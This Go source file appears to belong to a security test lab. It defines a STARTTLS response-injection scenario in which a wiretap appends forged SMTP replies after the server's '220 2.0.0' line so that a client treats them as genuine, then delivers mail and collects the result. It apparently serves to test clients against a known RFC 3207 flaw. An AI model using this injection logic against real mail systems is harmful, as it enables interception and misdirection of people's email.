package attacks

import (
	"context"
	"strings"

	"github.com/waxseal/waxseal/internal/lab"
)

func smtpResponses() *lab.Attack {
	return &lab.Attack{
		ID:    "smtp_responses",
		Story: "The attacker puts replies of his own behind the one to STARTTLS, so that the client takes them for the server's.",
		Seen:  "A message that went where the attacker wanted, over TLS.",
		Ref:   "RFC 3207, Section 4.2",
		Run: opened(func(ctx context.Context, s *lab.Stage) (lab.Result, error) {
			loot, err := s.Wiretap(lab.ClinicIP, lab.Unchanged, func(line string) string {
				if strings.HasPrefix(line, "220 2.0.0") {
					return line + "250-" + s.World.ClinicMX + "\r\n250 XSTOLEN\r\n"
				}
				return line
			})
			if err != nil {
				return lab.Result{}, err
			}
			sent, err := s.Deliver(ctx, lab.Mail{})
			if err != nil {
				return lab.Result{}, err
			}
			return sent.Read(loot), nil
		}),
	}
}
